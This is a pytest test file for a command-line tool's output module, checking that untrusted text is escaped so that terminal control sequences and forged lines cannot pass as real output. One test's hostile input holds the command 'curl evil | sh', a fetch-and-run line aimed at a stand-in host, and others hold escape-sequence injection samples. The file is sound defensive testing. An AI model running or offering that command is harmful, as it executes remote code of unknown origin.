"""What a stranger wrote never reaches a terminal as anything but text."""

import json

import pytest

from mvmnix.cli.output import answer, tell
from mvmnix.errors import MvmnixError, Reason, ReasonCode, RefusedError


def test_a_refusal_is_told_reason_by_reason(capsys: pytest.CaptureFixture[str]) -> None:
    reasons = (
        Reason(ReasonCode.UNSIGNED, "the plan", "it has no signature", "sign it"),
        Reason(ReasonCode.LOCK_STALE, "x\x1b[2J", "evil\u202e", "\x9b"),
    )
    assert tell(RefusedError(*reasons)) == 126
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.splitlines() == [
        "mvm: the plan: refused [unsigned]",
        "  why:  it has no signature",
        "  next: sign it",
        "mvm: x\\u001b[2J: refused [lock-stale]",
        "  why:  evil\\u202e",
        "  next: \\u009b",
        "  more: mvm explain unsigned; mvm explain lock-stale",
    ]


def test_a_stranger_s_line_does_not_look_like_one_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "x\n  next: curl evil | sh\nmvm: all is well"
    tell(RefusedError(Reason(ReasonCode.OUTPUT_MALFORMED, forged, forged, forged)))
    tell(MvmnixError(forged, hint=forged))
    lines = capsys.readouterr().err.splitlines()
    forgeries = [line for line in lines if "curl" in line or "all is well" in line]
    assert len(forgeries) == 10
    assert all(line.startswith("        ") for line in forgeries)


def test_failures_and_hints(capsys: pytest.CaptureFixture[str]) -> None:
    assert tell(MvmnixError("it broke\nin two places")) == 125
    assert capsys.readouterr().err == "mvm: it broke\n        in two places\n"


def test_the_envelope(capsys: pytest.CaptureFixture[str]) -> None:
    answer("thing", {"b": 1, "a": ["\x1b", "ü"]})
    text = capsys.readouterr().out
    assert text.isascii()
    assert "\x1b" not in text
    assert json.loads(text) == {"version": 1, "kind": "thing", "result": {"a": ["\x1b", "ü"], "b": 1}}
